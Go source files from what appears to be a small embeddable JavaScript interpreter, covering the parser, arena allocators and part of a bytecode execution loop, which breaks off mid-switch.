package minjs

import "fmt"

// Parse lexes and parses src into a Program. name identifies the script in
// error messages, stack traces and the call log.
func Parse(src, name string) (*Program, error) {
	toks, err := lex(src, name)
	if err != nil {
		return nil, err
	}
	p := &parser{toks: toks, src: src, script: name}
	prog := &Program{Source: src, Name: name}
	prog.Line = 1
	for !p.at(TokEOF) {
		st, err := p.statement()
		if err != nil {
			return nil, err
		}
		prog.Body = append(prog.Body, st)
	}
	return prog, nil
}

// MustParse is Parse that panics on error; for tests and embedded scripts.
func MustParse(src, name string) *Program {
	p, err := Parse(src, name)
	if err != nil {
		panic(err)
	}
	return p
}

type parser struct {
	toks   []Token
	pos    int
	src    string
	script string
}

func (p *parser) cur() Token { return p.toks[p.pos] }
func (p *parser) peek() Token {
	if p.pos+1 < len(p.toks) {
		return p.toks[p.pos+1]
	}
	return p.toks[len(p.toks)-1]
}

func (p *parser) at(kind TokenKind) bool { return p.cur().Kind == kind }

func (p *parser) atPunct(text string) bool {
	t := p.cur()
	return t.Kind == TokPunct && t.Text == text
}

func (p *parser) atKeyword(text string) bool {
	t := p.cur()
	return t.Kind == TokKeyword && t.Text == text
}

func (p *parser) advance() Token {
	t := p.cur()
	if p.pos < len(p.toks)-1 {
		p.pos++
	}
	return t
}

func (p *parser) eatPunct(text string) bool {
	if p.atPunct(text) {
		p.advance()
		return true
	}
	return false
}

func (p *parser) expectPunct(text string) error {
	if !p.eatPunct(text) {
		return p.errf("expected %q, found %s", text, p.cur())
	}
	return nil
}

func (p *parser) errf(format string, args ...any) error {
	return &SyntaxError{Script: p.script, Line: p.cur().Line, Msg: fmt.Sprintf(format, args...)}
}

func (p *parser) line() int { return p.cur().Line }

// statement parses a single statement; semicolons are optional terminators.
func (p *parser) statement() (Node, error) {
	t := p.cur()
	if t.Kind == TokKeyword {
		switch t.Text {
		case "var", "let", "const":
			st, err := p.varDecl()
			if err != nil {
				return nil, err
			}
			p.eatPunct(";")
			return st, nil
		case "function":
			// function declaration (at statement position)
			if p.peek().Kind == TokIdent {
				line := p.line()
				fn, err := p.funcLiteral(true)
				if err != nil {
					return nil, err
				}
				return &FuncDecl{base: base{line}, Fn: fn}, nil
			}
		case "if":
			return p.ifStmt()
		case "while":
			return p.whileStmt()
		case "do":
			return p.doWhileStmt()
		case "for":
			return p.forStmt()
		case "return":
			line := p.line()
			p.advance()
			var x Node
			if !p.atPunct(";") && !p.atPunct("}") && !p.at(TokEOF) {
				var err error
				x, err = p.expression()
				if err != nil {
					return nil, err
				}
			}
			p.eatPunct(";")
			return &ReturnStmt{base{line}, x}, nil
		case "break":
			line := p.line()
			p.advance()
			p.eatPunct(";")
			return &BreakStmt{base{line}}, nil
		case "continue":
			line := p.line()
			p.advance()
			p.eatPunct(";")
			return &ContinueStmt{base{line}}, nil
		case "throw":
			line := p.line()
			p.advance()
			x, err := p.expression()
			if err != nil {
				return nil, err
			}
			p.eatPunct(";")
			return &ThrowStmt{base{line}, x}, nil
		case "try":
			return p.tryStmt()
		case "switch":
			return p.switchStmt()
		}
	}
	if p.atPunct("{") {
		return p.block()
	}
	if p.eatPunct(";") {
		return &BlockStmt{base: base{t.Line}}, nil // empty statement
	}
	line := p.line()
	x, err := p.expression()
	if err != nil {
		return nil, err
	}
	p.eatPunct(";")
	return &ExprStmt{base{line}, x}, nil
}

func (p *parser) varDecl() (*VarDecl, error) {
	line := p.line()
	kw := p.advance().Text
	d := &VarDecl{base: base{line}, Keyword: kw}
	for {
		if !p.at(TokIdent) {
			return nil, p.errf("expected identifier in %s declaration, found %s", kw, p.cur())
		}
		d.Names = append(d.Names, p.advance().Text)
		if p.eatPunct("=") {
			init, err := p.assignExpr()
			if err != nil {
				return nil, err
			}
			d.Inits = append(d.Inits, init)
		} else {
			d.Inits = append(d.Inits, nil)
		}
		if !p.eatPunct(",") {
			return d, nil
		}
	}
}

func (p *parser) block() (*BlockStmt, error) {
	line := p.line()
	if err := p.expectPunct("{"); err != nil {
		return nil, err
	}
	b := &BlockStmt{base: base{line}}
	for !p.atPunct("}") {
		if p.at(TokEOF) {
			return nil, p.errf("unexpected EOF in block")
		}
		st, err := p.statement()
		if err != nil {
			return nil, err
		}
		switch st.(type) {
		case *VarDecl, *FuncDecl:
			b.NeedsScope = true
		}
		b.Body = append(b.Body, st)
	}
	p.advance() // }
	return b, nil
}

func (p *parser) ifStmt() (Node, error) {
	line := p.line()
	p.advance() // if
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	cond, err := p.expression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	then, err := p.statement()
	if err != nil {
		return nil, err
	}
	var els Node
	if p.atKeyword("else") {
		p.advance()
		els, err = p.statement()
		if err != nil {
			return nil, err
		}
	}
	return &IfStmt{base{line}, cond, then, els}, nil
}

func (p *parser) whileStmt() (Node, error) {
	line := p.line()
	p.advance() // while
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	cond, err := p.expression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	body, err := p.statement()
	if err != nil {
		return nil, err
	}
	return &WhileStmt{base{line}, cond, body}, nil
}

func (p *parser) doWhileStmt() (Node, error) {
	line := p.line()
	p.advance() // do
	body, err := p.statement()
	if err != nil {
		return nil, err
	}
	if !p.atKeyword("while") {
		return nil, p.errf("expected 'while' after do-body")
	}
	p.advance()
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	cond, err := p.expression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	p.eatPunct(";")
	return &DoWhileStmt{base{line}, cond, body}, nil
}

func (p *parser) forStmt() (Node, error) {
	line := p.line()
	p.advance() // for
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}

	// for (var x in obj) / for (x in obj) / for…of
	if p.atKeyword("var") || p.atKeyword("let") || p.atKeyword("const") {
		kw := p.cur().Text
		if p.peek().Kind == TokIdent {
			// look two ahead for `in` / `of`
			if p.pos+2 < len(p.toks) {
				t2 := p.toks[p.pos+2]
				if t2.Kind == TokKeyword && (t2.Text == "in" || t2.Text == "of") {
					p.advance() // var
					name := p.advance().Text
					of := p.advance().Text == "of"
					obj, err := p.expression()
					if err != nil {
						return nil, err
					}
					if err := p.expectPunct(")"); err != nil {
						return nil, err
					}
					body, err := p.statement()
					if err != nil {
						return nil, err
					}
					return &ForInStmt{base{line}, kw, name, of, obj, body}, nil
				}
			}
		}
	} else if p.at(TokIdent) {
		t1 := p.peek()
		if t1.Kind == TokKeyword && (t1.Text == "in" || t1.Text == "of") {
			name := p.advance().Text
			of := p.advance().Text == "of"
			obj, err := p.expression()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct(")"); err != nil {
				return nil, err
			}
			body, err := p.statement()
			if err != nil {
				return nil, err
			}
			return &ForInStmt{base{line}, "", name, of, obj, body}, nil
		}
	}

	// classic three-clause for
	var init, cond, post Node
	var err error
	if !p.atPunct(";") {
		if p.atKeyword("var") || p.atKeyword("let") || p.atKeyword("const") {
			init, err = p.varDecl()
		} else {
			var x Node
			x, err = p.expression()
			init = &ExprStmt{base{line}, x}
		}
		if err != nil {
			return nil, err
		}
	}
	if err := p.expectPunct(";"); err != nil {
		return nil, err
	}
	if !p.atPunct(";") {
		cond, err = p.expression()
		if err != nil {
			return nil, err
		}
	}
	if err := p.expectPunct(";"); err != nil {
		return nil, err
	}
	if !p.atPunct(")") {
		post, err = p.expression()
		if err != nil {
			return nil, err
		}
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	body, err := p.statement()
	if err != nil {
		return nil, err
	}
	return &ForStmt{base{line}, init, cond, post, body}, nil
}

func (p *parser) tryStmt() (Node, error) {
	line := p.line()
	p.advance() // try
	body, err := p.block()
	if err != nil {
		return nil, err
	}
	st := &TryStmt{base: base{line}, Body: body}
	if p.atKeyword("catch") {
		p.advance()
		if p.eatPunct("(") {
			if !p.at(TokIdent) {
				return nil, p.errf("expected identifier in catch clause")
			}
			st.CatchName = p.advance().Text
			if err := p.expectPunct(")"); err != nil {
				return nil, err
			}
		}
		st.Catch, err = p.block()
		if err != nil {
			return nil, err
		}
	}
	if p.atKeyword("finally") {
		p.advance()
		st.Finally, err = p.block()
		if err != nil {
			return nil, err
		}
	}
	if st.Catch == nil && st.Finally == nil {
		return nil, p.errf("try requires catch or finally")
	}
	return st, nil
}

func (p *parser) switchStmt() (Node, error) {
	line := p.line()
	p.advance() // switch
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	tag, err := p.expression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	if err := p.expectPunct("{"); err != nil {
		return nil, err
	}
	st := &SwitchStmt{base: base{line}, Tag: tag, DefPos: -1}
	for !p.atPunct("}") {
		if p.at(TokEOF) {
			return nil, p.errf("unexpected EOF in switch")
		}
		if p.atKeyword("case") {
			p.advance()
			test, err := p.expression()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct(":"); err != nil {
				return nil, err
			}
			body, err := p.caseBody()
			if err != nil {
				return nil, err
			}
			st.Cases = append(st.Cases, SwitchCase{Test: test, Body: body})
		} else if p.atKeyword("default") {
			p.advance()
			if err := p.expectPunct(":"); err != nil {
				return nil, err
			}
			body, err := p.caseBody()
			if err != nil {
				return nil, err
			}
			st.HasDef = true
			st.DefPos = len(st.Cases)
			st.Default = body
		} else {
			return nil, p.errf("expected case or default in switch")
		}
	}
	p.advance() // }
	return st, nil
}

func (p *parser) caseBody() ([]Node, error) {
	var body []Node
	for !p.atKeyword("case") && !p.atKeyword("default") && !p.atPunct("}") {
		if p.at(TokEOF) {
			return nil, p.errf("unexpected EOF in switch case")
		}
		st, err := p.statement()
		if err != nil {
			return nil, err
		}
		body = append(body, st)
	}
	return body, nil
}

// funcLiteral parses `function [name](params) { body }`. The leading
// `function` keyword is consumed here. named requires a name.
func (p *parser) funcLiteral(named bool) (*FuncLit, error) {
	line := p.line()
	start := p.cur().Pos
	p.advance() // function
	fn := &FuncLit{base: base{line}, Script: p.script}
	if p.at(TokIdent) {
		fn.Name = p.advance().Text
	} else if named {
		return nil, p.errf("expected function name")
	}
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	for !p.atPunct(")") {
		if !p.at(TokIdent) {
			return nil, p.errf("expected parameter name, found %s", p.cur())
		}
		fn.Params = append(fn.Params, p.advance().Text)
		if !p.eatPunct(",") {
			break
		}
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	body, err := p.block()
	if err != nil {
		return nil, err
	}
	fn.Body = body.Body
	end := p.cur().Pos
	fn.SrcText = trimSource(p.src, start, end)
	for _, s := range fn.Body {
		if usesArguments(s) {
			fn.UsesArguments = true
			break
		}
	}
	return fn, nil
}

// trimSource slices src[start:end] and trims trailing whitespace so the
// toString text ends at the closing brace.
func trimSource(src string, start, end int) string {
	if start < 0 {
		start = 0
	}
	if end > len(src) {
		end = len(src)
	}
	s := src[start:end]
	for len(s) > 0 {
		c := s[len(s)-1]
		if c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == ';' {
			s = s[:len(s)-1]
			continue
		}
		break
	}
	return s
}

// ---- Expressions (precedence climbing) ----

func (p *parser) expression() (Node, error) { return p.assignExpr() }

func (p *parser) assignExpr() (Node, error) {
	// arrow functions: `ident => …` or `(params) => …`
	if fn, ok, err := p.tryArrow(); err != nil {
		return nil, err
	} else if ok {
		return fn, nil
	}
	left, err := p.condExpr()
	if err != nil {
		return nil, err
	}
	t := p.cur()
	if t.Kind == TokPunct {
		switch t.Text {
		case "=", "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=":
			switch left.(type) {
			case *Ident, *MemberExpr:
			default:
				return nil, p.errf("invalid assignment target")
			}
			line := t.Line
			p.advance()
			val, err := p.assignExpr()
			if err != nil {
				return nil, err
			}
			return &AssignExpr{base{line}, t.Text, left, val}, nil
		}
	}
	return left, nil
}

// tryArrow detects and parses arrow functions with bounded lookahead.
func (p *parser) tryArrow() (Node, bool, error) {
	// single identifier arrow: x => body
	if p.at(TokIdent) && p.peek().Kind == TokPunct && p.peek().Text == "=>" {
		line := p.line()
		start := p.cur().Pos
		name := p.advance().Text
		p.advance() // =>
		return p.arrowBody(line, start, []string{name})
	}
	// parenthesised params: scan ahead for `) =>`
	if !p.atPunct("(") {
		return nil, false, nil
	}
	depth := 0
	i := p.pos
	for ; i < len(p.toks); i++ {
		t := p.toks[i]
		if t.Kind != TokPunct {
			continue
		}
		if t.Text == "(" {
			depth++
		} else if t.Text == ")" {
			depth--
			if depth == 0 {
				break
			}
		}
	}
	if i+1 >= len(p.toks) || p.toks[i+1].Kind != TokPunct || p.toks[i+1].Text != "=>" {
		return nil, false, nil
	}
	line := p.line()
	start := p.cur().Pos
	p.advance() // (
	var params []string
	for !p.atPunct(")") {
		if !p.at(TokIdent) {
			return nil, false, p.errf("expected parameter name in arrow function")
		}
		params = append(params, p.advance().Text)
		if !p.eatPunct(",") {
			break
		}
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, false, err
	}
	if err := p.expectPunct("=>"); err != nil {
		return nil, false, err
	}
	return p.arrowBody(line, start, params)
}

func (p *parser) arrowBody(line, start int, params []string) (Node, bool, error) {
	fn := &FuncLit{base: base{line}, Params: params, Arrow: true, Script: p.script}
	if p.atPunct("{") {
		body, err := p.block()
		if err != nil {
			return nil, false, err
		}
		fn.Body = body.Body
	} else {
		x, err := p.assignExpr()
		if err != nil {
			return nil, false, err
		}
		fn.Body = []Node{&ReturnStmt{base{line}, x}}
	}
	fn.SrcText = trimSource(p.src, start, p.cur().Pos)
	return fn, true, nil
}

func (p *parser) condExpr() (Node, error) {
	cond, err := p.binaryExpr(0)
	if err != nil {
		return nil, err
	}
	if !p.atPunct("?") {
		return cond, nil
	}
	line := p.line()
	p.advance()
	then, err := p.assignExpr()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(":"); err != nil {
		return nil, err
	}
	els, err := p.assignExpr()
	if err != nil {
		return nil, err
	}
	return &CondExpr{base{line}, cond, then, els}, nil
}

// binary operator precedence levels.
var binPrec = map[string]int{
	"||": 1, "??": 1,
	"&&": 2,
	"|":  3,
	"^":  4,
	"&":  5,
	"==": 6, "!=": 6, "===": 6, "!==": 6,
	"<": 7, ">": 7, "<=": 7, ">=": 7, "instanceof": 7, "in": 7,
	"<<": 8, ">>": 8, ">>>": 8,
	"+": 9, "-": 9,
	"*": 10, "/": 10, "%": 10,
}

func (p *parser) binaryExpr(minPrec int) (Node, error) {
	left, err := p.unaryExpr()
	if err != nil {
		return nil, err
	}
	for {
		t := p.cur()
		var op string
		if t.Kind == TokPunct {
			op = t.Text
		} else if t.Kind == TokKeyword && (t.Text == "instanceof" || t.Text == "in") {
			op = t.Text
		} else {
			return left, nil
		}
		prec, ok := binPrec[op]
		if !ok || prec < minPrec {
			return left, nil
		}
		line := t.Line
		p.advance()
		right, err := p.binaryExpr(prec + 1)
		if err != nil {
			return nil, err
		}
		if op == "&&" || op == "||" || op == "??" {
			left = &LogicalExpr{base{line}, op, left, right}
		} else {
			left = &BinaryExpr{base{line}, op, left, right}
		}
	}
}

func (p *parser) unaryExpr() (Node, error) {
	t := p.cur()
	if t.Kind == TokPunct {
		switch t.Text {
		case "!", "-", "+", "~", "++", "--":
			line := t.Line
			p.advance()
			x, err := p.unaryExpr()
			if err != nil {
				return nil, err
			}
			return &UnaryExpr{base{line}, t.Text, x}, nil
		}
	}
	if t.Kind == TokKeyword {
		switch t.Text {
		case "typeof", "delete":
			line := t.Line
			p.advance()
			x, err := p.unaryExpr()
			if err != nil {
				return nil, err
			}
			return &UnaryExpr{base{line}, t.Text, x}, nil
		case "new":
			line := t.Line
			p.advance()
			ctor, err := p.memberOnly()
			if err != nil {
				return nil, err
			}
			var args []Node
			if p.atPunct("(") {
				args, err = p.callArgs()
				if err != nil {
					return nil, err
				}
			}
			nx := Node(&NewExpr{base{line}, ctor, args})
			return p.callTail(nx)
		}
	}
	x, err := p.postfixExpr()
	if err != nil {
		return nil, err
	}
	return x, nil
}

func (p *parser) postfixExpr() (Node, error) {
	x, err := p.callExpr()
	if err != nil {
		return nil, err
	}
	if p.atPunct("++") || p.atPunct("--") {
		t := p.advance()
		return &PostfixExpr{base{t.Line}, t.Text, x}, nil
	}
	return x, nil
}

// memberOnly parses a primary expression followed by member accesses only
// (no calls); used for the constructor of `new`.
func (p *parser) memberOnly() (Node, error) {
	x, err := p.primary()
	if err != nil {
		return nil, err
	}
	for {
		if p.atPunct(".") {
			line := p.line()
			p.advance()
			if !p.at(TokIdent) && !p.at(TokKeyword) {
				return nil, p.errf("expected property name after '.'")
			}
			name := p.advance().Text
			x = &MemberExpr{base{line}, x, name, false, nil}
			continue
		}
		if p.atPunct("[") {
			line := p.line()
			p.advance()
			idx, err := p.expression()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct("]"); err != nil {
				return nil, err
			}
			x = &MemberExpr{base{line}, x, "", true, idx}
			continue
		}
		return x, nil
	}
}

func (p *parser) callExpr() (Node, error) {
	x, err := p.primary()
	if err != nil {
		return nil, err
	}
	return p.callTail(x)
}

// callTail parses trailing member accesses and calls.
func (p *parser) callTail(x Node) (Node, error) {
	for {
		switch {
		case p.atPunct("."):
			line := p.line()
			p.advance()
			if !p.at(TokIdent) && !p.at(TokKeyword) {
				return nil, p.errf("expected property name after '.'")
			}
			name := p.advance().Text
			x = &MemberExpr{base{line}, x, name, false, nil}
		case p.atPunct("["):
			line := p.line()
			p.advance()
			idx, err := p.expression()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct("]"); err != nil {
				return nil, err
			}
			x = &MemberExpr{base{line}, x, "", true, idx}
		case p.atPunct("("):
			line := p.line()
			args, err := p.callArgs()
			if err != nil {
				return nil, err
			}
			x = &CallExpr{base{line}, x, args}
		default:
			return x, nil
		}
	}
}

func (p *parser) callArgs() ([]Node, error) {
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	var args []Node
	for !p.atPunct(")") {
		a, err := p.assignExpr()
		if err != nil {
			return nil, err
		}
		args = append(args, a)
		if !p.eatPunct(",") {
			break
		}
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	return args, nil
}

func (p *parser) primary() (Node, error) {
	t := p.cur()
	switch t.Kind {
	case TokNumber:
		p.advance()
		return &Literal{base{t.Line}, Number(t.Num)}, nil
	case TokString:
		p.advance()
		return &Literal{base{t.Line}, String(t.Text)}, nil
	case TokIdent:
		p.advance()
		return &Ident{base{t.Line}, t.Text}, nil
	case TokKeyword:
		switch t.Text {
		case "true":
			p.advance()
			return &Literal{base{t.Line}, Boolean(true)}, nil
		case "false":
			p.advance()
			return &Literal{base{t.Line}, Boolean(false)}, nil
		case "null":
			p.advance()
			return &Literal{base{t.Line}, Null()}, nil
		case "undefined":
			p.advance()
			return &Literal{base{t.Line}, Undefined()}, nil
		case "this":
			p.advance()
			return &ThisExpr{base{t.Line}}, nil
		case "function":
			return p.funcLiteral(false)
		}
		return nil, p.errf("unexpected keyword %q", t.Text)
	case TokPunct:
		switch t.Text {
		case "(":
			p.advance()
			x, err := p.expression()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct(")"); err != nil {
				return nil, err
			}
			return x, nil
		case "[":
			p.advance()
			arr := &ArrayLit{base: base{t.Line}}
			for !p.atPunct("]") {
				el, err := p.assignExpr()
				if err != nil {
					return nil, err
				}
				arr.Elems = append(arr.Elems, el)
				if !p.eatPunct(",") {
					break
				}
			}
			if err := p.expectPunct("]"); err != nil {
				return nil, err
			}
			return arr, nil
		case "{":
			p.advance()
			obj := &ObjectLit{base: base{t.Line}}
			for !p.atPunct("}") {
				kt := p.cur()
				var key string
				switch {
				case kt.Kind == TokIdent || kt.Kind == TokKeyword:
					key = kt.Text
					p.advance()
				case kt.Kind == TokString:
					key = kt.Text
					p.advance()
				case kt.Kind == TokNumber:
					key = numToString(kt.Num)
					p.advance()
				default:
					return nil, p.errf("bad object literal key %s", kt)
				}
				if err := p.expectPunct(":"); err != nil {
					return nil, err
				}
				val, err := p.assignExpr()
				if err != nil {
					return nil, err
				}
				obj.Keys = append(obj.Keys, key)
				obj.Vals = append(obj.Vals, val)
				if !p.eatPunct(",") {
					break
				}
			}
			if err := p.expectPunct("}"); err != nil {
				return nil, err
			}
			return obj, nil
		}
	}
	return nil, p.errf("unexpected token %s", t)
}
