package minjs

// Realm-lifetime bump allocators. Objects, function objects and scopes are
// never freed individually — a realm's whole object graph dies with its
// Interp — so the hot constructors carve zeroed structs out of chunked
// arrays instead of paying one GC allocation each. Pointers into a chunk
// stay valid forever: chunks are never reused or shrunk, only abandoned to
// the collector when the realm goes away. None of this touches the manual
// it.allocs counter, which keeps counting JS-visible allocations exactly as
// before.

const (
	objArenaChunk   = 128
	fnArenaChunk    = 64
	scopeArenaChunk = 128
	slotArenaChunk  = 512
)

func (it *Interp) allocObject() *Object {
	if len(it.objArena) == 0 {
		it.objArena = make([]Object, objArenaChunk)
	}
	o := &it.objArena[0]
	it.objArena = it.objArena[1:]
	return o
}

func (it *Interp) allocFunc() *funcObject {
	if len(it.fnArena) == 0 {
		it.fnArena = make([]funcObject, fnArenaChunk)
	}
	f := &it.fnArena[0]
	it.fnArena = it.fnArena[1:]
	return f
}

// carveVals returns an empty Value slice with capacity n carved from the
// realm arena. Appending past n falls back to a normal heap grow, so the
// capacity is a hint, never a bound.
func (it *Interp) carveVals(n int) []Value {
	if n >= slotArenaChunk {
		return make([]Value, 0, n)
	}
	if len(it.valArena) < n {
		it.valArena = make([]Value, slotArenaChunk)
	}
	v := it.valArena[:0:n]
	it.valArena = it.valArena[n:]
	return v
}

func (it *Interp) carveNames(n int) []string {
	if n >= slotArenaChunk {
		return make([]string, 0, n)
	}
	if len(it.nameArena) < n {
		it.nameArena = make([]string, slotArenaChunk)
	}
	s := it.nameArena[:0:n]
	it.nameArena = it.nameArena[n:]
	return s
}

// newScopeIn returns a child scope presized for n bindings with the Scope
// struct and both binding slices carved from the realm arenas: a call-frame
// scope costs zero dedicated heap allocations in the common case.
func (it *Interp) newScopeIn(parent *Scope, n int) *Scope {
	if len(it.scopeArena) == 0 {
		it.scopeArena = make([]Scope, scopeArenaChunk)
	}
	s := &it.scopeArena[0]
	it.scopeArena = it.scopeArena[1:]
	if n > 0 {
		s.names = it.carveNames(n)
		s.vals = it.carveVals(n)
	}
	s.parent = parent
	return s
}
