package minjs

import "math"

// Completion signals threaded between exec levels. Loops compiled as jumps
// handle break/continue locally; where a construct's body runs in a
// recursive exec call (try, for-in, switch), break/continue surface as
// signals and the construct's handler routes or propagates them — the
// bytecode equivalent of the tree-walker's errBreak/errContinue sentinels.
const (
	sigNone byte = iota
	sigBreak
	sigContinue
	sigReturn
)

// runProgramVM executes a compiled program's toplevel code. Behaviour is
// bit-identical to the tree-walking RunProgram: same step accounting, same
// completion value, and the same quirk that a stray toplevel break leaks
// errBreak to the host.
func (it *Interp) runProgramVM(prog *Program) (Value, error) {
	c := prog.compiled
	it.steps = 0
	frame := it.pushFrame(Frame{FnName: "<toplevel>", Script: prog.Name, Line: 1})
	savedLast := it.lastVal // reentrant: timers/events can nest program runs
	it.lastVal = Undefined()
	it.ensureStack(int(c.maxStack))
	rv, sig, err := it.exec(c, 0, int32(len(c.ins)), it.root, frame)
	last := it.lastVal
	it.lastVal = savedLast
	it.popFrame()
	if err != nil {
		return Undefined(), err
	}
	switch sig {
	case sigReturn:
		return rv, nil
	case sigBreak:
		return Undefined(), errBreak
	case sigContinue:
		return Undefined(), errContinue
	}
	return last, nil
}

// callCompiled invokes a script function through its bytecode. The caller
// (CallFunction) has already performed the depth check and arrow-this
// resolution. args may alias the caller's value stack: everything borrowed
// is copied into the callee scope before exec touches the stack.
func (it *Interp) callCompiled(lit *FuncLit, fn *Object, this Value, args []Value) (Value, error) {
	c := lit.compiled
	var sc *Scope
	if c.poolScope {
		sc = it.getPooledScope(fn.fnd.Env, c.scopeSize)
	} else {
		sc = it.newScopeIn(fn.fnd.Env, int(c.scopeSize))
	}
	for i, p := range lit.Params {
		if i < len(args) {
			sc.declare(p, args[i])
		} else {
			sc.declare(p, Undefined())
		}
	}
	if lit.UsesArguments {
		sc.declare("arguments", ObjectValue(it.NewArrayP(args...)))
	}
	frame := it.pushFrame(Frame{FnName: lit.Name, Script: lit.Script, Line: lit.Line})
	savedThis := it.curThis
	it.curThis = this
	it.ensureStack(int(c.maxStack))
	rv, sig, err := it.exec(c, 0, int32(len(c.ins)), sc, frame)
	it.curThis = savedThis
	it.popFrame()
	it.releaseScope(sc)
	if err != nil {
		return Undefined(), err
	}
	switch sig {
	case sigReturn:
		return rv, nil
	case sigBreak:
		// bug-compat with the tree-walker: break outside a loop leaks
		return Undefined(), errBreak
	case sigContinue:
		return Undefined(), errContinue
	}
	return Undefined(), nil
}

// ensureStack grows the shared value stack so the next exec has room for n
// slots above the current watermark.
func (it *Interp) ensureStack(n int) {
	need := it.vsp + n + 8
	if need <= len(it.vs) {
		return
	}
	size := len(it.vs)*2 + 64
	if size < need {
		size = need
	}
	ns := make([]Value, size)
	copy(ns, it.vs[:it.vsp])
	it.vs = ns
}

// getPooledScope returns a recycled scope (or a fresh poolable one) parented
// at parent. Only scopes the compiler proved capture-free are pooled.
func (it *Interp) getPooledScope(parent *Scope, n int32) *Scope {
	if k := len(it.scopeFree); k > 0 {
		s := it.scopeFree[k-1]
		it.scopeFree = it.scopeFree[:k-1]
		s.parent = parent
		return s
	}
	return &Scope{
		parent: parent,
		names:  make([]string, 0, n),
		vals:   make([]Value, 0, n),
		pooled: true,
	}
}

// releaseScope recycles a pooled scope. Non-pooled scopes (which may be
// captured by closures) are left untouched.
func (it *Interp) releaseScope(s *Scope) {
	if s == nil || !s.pooled {
		return
	}
	clear(s.names)
	clear(s.vals)
	s.names = s.names[:0]
	s.vals = s.vals[:0]
	s.parent = nil
	if len(it.scopeFree) < 64 {
		it.scopeFree = append(it.scopeFree, s)
	}
}

// icsFor returns this interpreter's inline-cache table for c. Tables are
// realm-local (cached Codes are shared across concurrent visits; object
// pointers must never leak into them) and die with the interpreter.
func (it *Interp) icsFor(c *Code) []icEntry {
	if c.numICs == 0 {
		return nil
	}
	if it.lastICCode == c {
		return it.lastICs
	}
	t := it.icTabs[c]
	if t == nil {
		if it.icTabs == nil {
			it.icTabs = make(map[*Code][]icEntry, 16)
		}
		t = make([]icEntry, c.numICs)
		it.icTabs[c] = t
	}
	it.lastICCode, it.lastICs = c, t
	return t
}

// exec runs instructions [lo,hi) of c against scope sc. It returns the
// value carried by sigReturn, the completion signal, and any error. The
// value stack is it.vs; exec's frame of it starts at it.vsp and is restored
// on exit. Reentrant operations (calls, property hooks into getters/setters,
// nested exec ranges) see the live watermark via it.vsp, which is mirrored
// from the local sp before each of them; it.vs must always be indexed
// directly because nested calls may grow (reallocate) it.
func (it *Interp) exec(c *Code, lo, hi int32, sc *Scope, frame *Frame) (Value, byte, error) {
	base := it.vsp
	entrySc := sc
	sp := base
	limit := it.StepLimit
	if limit == 0 {
		limit = 5_000_000
	}
	ics := it.icsFor(c)
	var rv Value
	var rsig byte
	var rerr error
	pc := lo

run:
	for pc < hi {
		in := c.ins[pc]
		pc++
		switch in.op {
		case opStmt:
			it.steps++
			if it.steps > limit {
				rerr = &InterruptError{Reason: "step limit exceeded"}
				break run
			}
			frame.Line = int(in.a)

		case opStep:
			it.steps++
			if it.steps > limit {
				rerr = &InterruptError{Reason: "step limit exceeded"}
				break run
			}

		case opConst:
			it.vs[sp] = c.consts[in.a]
			sp++

		case opConstStep:
			it.steps++
			if it.steps > limit {
				rerr = &InterruptError{Reason: "step limit exceeded"}
				break run
			}
			it.vs[sp] = c.consts[in.a]
			sp++

		case opUndefined:
			it.vs[sp] = Undefined()
			sp++

		case opLoadName:
			it.steps++
			if it.steps > limit {
				rerr = &InterruptError{Reason: "step limit exceeded"}
				break run
			}
			it.vsp = sp // global reads can hit instrumented accessors
			var e *icEntry
			if ics != nil {
				e = &ics[in.b]
			}
			v, err := it.lookupIdentVM(c.atoms[in.a], sc, e)
			if err != nil {
				rerr = err
				break run
			}
			it.vs[sp] = v
			sp++

		case opThis:
			it.steps++
			if it.steps > limit {
				rerr = &InterruptError{Reason: "step limit exceeded"}
				break run
			}
			if it.curThis.Kind == KindUndefined {
				it.vs[sp] = ObjectValue(it.Global)
			} else {
				it.vs[sp] = it.curThis
			}
			sp++

		case opArray:
			n := int(in.a)
			sp -= n
			arr := it.NewArrayP(it.vs[sp : sp+n]...)
			it.vs[sp] = ObjectValue(arr)
			sp++

		case opObject:
			n := int(in.b)
			keys := c.shapes[in.a]
			sp -= n
			o := it.NewObjectP()
			for i := 0; i < n; i++ {
				o.Set(keys[i], it.vs[sp+i])
			}
			it.vs[sp] = ObjectValue(o)
			sp++

		case opClosure:
			lit := c.fns[in.a]
			fn := it.makeFunction(lit, sc)
			if lit.Arrow {
				fn.fnd.ThisVal = it.curThis
				if fn.fnd.ThisVal.Kind == KindUndefined {
					fn.fnd.ThisVal = ObjectValue(it.Global)
				}
			}
			it.vs[sp] = ObjectValue(fn)
			sp++

		case opDeclare:
			sp--
			sc.declare(c.atoms[in.a], it.vs[sp])

		case opPop:
			sp--

		case opStoreLast:
			sp--
			it.lastVal = it.vs[sp]

		case opClearLast:
			it.lastVal = Undefined()

		case opJump:
			pc = in.a

		case opJumpIfFalse:
			sp--
			if !it.vs[sp].Truthy() {
				pc = in.a
			}

		case opJumpIfTrue:
			sp--
			if it.vs[sp].Truthy() {
				pc = in.a
			}

		case opAndJump:
			if !it.vs[sp-1].Truthy() {
				pc = in.a
			} else {
				sp--
			}

